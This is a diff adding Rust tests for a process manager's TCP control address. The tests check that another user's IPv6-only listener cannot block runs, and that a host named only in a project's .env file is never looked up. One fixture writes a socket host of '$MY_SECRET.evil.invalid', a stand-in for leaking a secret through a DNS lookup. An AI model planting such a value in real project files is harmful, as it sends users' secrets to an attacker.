@@ -1,8 +1,14 @@
 //! The control address on TCP.
 
 use std::io::{BufRead as _, BufReader, Read as _, Write as _};
-use std::net::{Shutdown, TcpStream};
+use std::net::{Ipv6Addr, Shutdown, SocketAddrV6, TcpStream};
+use std::os::fd::AsRawFd as _;
 use std::os::unix::process::CommandExt as _;
+
+use nix::sys::socket::{
+    AddressFamily, Backlog, SockFlag, SockType, SockaddrIn6, bind, listen, setsockopt, socket,
+    sockopt,
+};
 
 use crate::harness::{View, World, eventually};
 
@@ -324,6 +330,24 @@ fn overmind_itself_is_asked_over_tcp_without_a_token() {
 }
 
 #[test]
+fn a_listener_of_another_user_that_takes_ipv6_only_keeps_nobody_from_a_run() {
+    let world = over_tcp(World::new(WEB), "127.0.0.1:0");
+    let mut view = world.start([""; 0]);
+    let at: std::net::SocketAddr = address(&view).parse().unwrap();
+    let theirs = as_another(|| {
+        let fd = socket(AddressFamily::Inet6, SockType::Stream, SockFlag::SOCK_CLOEXEC, None)?;
+        setsockopt(&fd, sockopt::Ipv6V6Only, &true)?;
+        let any = SocketAddrV6::new(Ipv6Addr::UNSPECIFIED, at.port(), 0, 0);
+        bind(fd.as_raw_fd(), &SockaddrIn6::from(any))?;
+        listen(&fd, Backlog::new(1)?)?;
+        nix::Result::Ok(fd)
+    });
+    let ran = world.run(["ps", "-S", "tcp", "-s", &at.to_string()]);
+    assert!(ran.code == 0 && ran.stdout.contains("running"), "{theirs:?}: {ran:?}");
+    assert_eq!(view.interrupt(), 0);
+}
+
+#[test]
 fn a_listener_of_another_user_is_told_nothing() {
     let world = World::new(WEB).env("TMO_TOKEN", TOKEN);
     let Some(theirs) = as_another(|| std::net::TcpListener::bind("127.0.0.1:0").unwrap()) else {
@@ -386,6 +410,47 @@ fn an_address_of_the_project_does_not_get_a_proof_of_the_users_token() {
     // All of it in one place is another matter.
     let ran = world.run(["ps", "-S", "tcp", "-s", "127.0.0.1:1"]);
     assert!(ran.code == 1 && ran.stderr.contains("connection refused"), "{ran:?}");
+}
+
+#[test]
+fn a_host_that_only_a_file_of_the_project_names_is_not_looked_up() {
+    let world = World::new(WEB).env("MY_SECRET", "hush");
+    world.write(".env", "TMO_NETWORK=tcp\nTMO_SOCKET=$MY_SECRET.evil.invalid:80\n");
+    let refused = "tmo: ./.env names the host hush.evil.invalid for the control address, which is not \
+        looked up: a file of the project may name an IP address or `localhost`; to mean that host, \
+        use -s hush.evil.invalid:80\n";
+    for args in [
+        &["ps"][..],
+        &["why", "web"],
+        &["quit"],
+        &["kill"],
+        &["echo"],
+        &["restart", "web"],
+        &["logs"],
+        &["wait"],
+        &["start"],
+        &["start", "-D"],
+        &["check"],
+        &["ps", "-S", "tcp4"],
+        &["start", "-S", "tcp"],
+    ] {
+        let ran = world.run(args);
+        assert_eq!((ran.code, ran.stderr.as_str()), (1, refused), "{args:?}: {ran:?}");
+    }
+    // Who means it says so.
+    for verb in ["ps", "start"] {
+        let ran = world.run([verb, "-s", "localhost.invalid:80"]);
+        assert!(ran.code == 1 && ran.stderr.contains("localhost.invalid:80: "), "{ran:?}");
+    }
+    let named = world.tmo(["ps"]).env("OVERMIND_SOCKET", "localhost.invalid:80").output().unwrap();
+    let named = String::from_utf8(named.stderr).unwrap();
+    assert!(named.contains("dial tcp localhost.invalid:80: "), "{named}");
+    for known in ["127.0.0.1:1", "localhost:1"] {
+        world.write(".env", &format!("TMO_NETWORK=tcp\nTMO_SOCKET={known}\n"));
+        let ran = world.run(["ps"]);
+        assert!(ran.code == 1 && ran.stderr.contains("connection refused"), "{ran:?}");
+    }
+    world.wait_empty();
 }
 
 #[test]
